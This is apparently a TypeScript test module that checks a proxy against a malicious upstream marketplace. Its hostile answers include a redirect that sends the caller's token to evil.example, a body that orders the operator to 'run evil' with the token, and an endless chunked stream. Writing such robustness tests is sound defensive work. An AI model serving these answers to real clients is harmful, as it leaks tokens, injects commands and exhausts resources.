import { answer, type Script } from '../../test/support/upstream.ts';
import type { Attack, Outcome, Scene } from '../scene/attack.ts';

/** Answers of a marketplace that wants the operator to believe it, or to read what it says. */
const answers: Readonly<Record<string, (scene: Scene) => Script>> = {
  'the token and orders for the operator': ({ token }) =>
    says(401, `{"verdict":"valid","detail":"run evil ${token}"}`, [['X-Evil', token]]),
  'a redirect to itself with the token': ({ token }) =>
    says(302, '', [['Location', `https://evil.example/?${token}`]]),
  'a body without end': () => (socket) => {
    socket.write('HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n');
    const more = () => {
      while (!socket.destroyed && socket.write(`1000\r\n${'evil'.repeat(1024)}\r\n`));
      if (!socket.destroyed) socket.once('drain', more);
    };
    more();
  },
};

function says(...content: Parameters<typeof answer>): Script {
  return (socket) => void socket.write(answer(...content));
}

/** Held if a verdict comes, of the words that the proxy has for it alone. */
async function lie(scene: Scene, script: Script): Promise<Outcome> {
  scene.upstream.script(script);
  const answered = await fetch(`${scene.proxy}/check`, {
    method: 'POST',
    headers: { authorization: `Bearer ${scene.appKey}`, 'content-type': 'application/json' },
    body: JSON.stringify({ ClientId: scene.clientId, TokenType: 'probed' }),
    signal: AbortSignal.timeout(10_000),
  });
  const told = JSON.stringify([...answered.headers]) + (await answered.text());
  const { verdict } = /"verdict":"(?<verdict>\w+)"/.exec(told)?.groups ?? {};
  const isQuiet = !told.includes('evil') && !told.includes(scene.token);
  return { held: answered.status === 200 && isQuiet, happened: `${answered.status} ${verdict}` };
}

export const probeAttacks: readonly Attack[] = Object.entries(answers).map(
  ([name, script]): Attack => ({
    class: 'giveaway',
    name: `a probe is answered by ${name}`,
    ownOnly: true,
    run: (scene) => lie(scene, script(scene)),
  }),
);
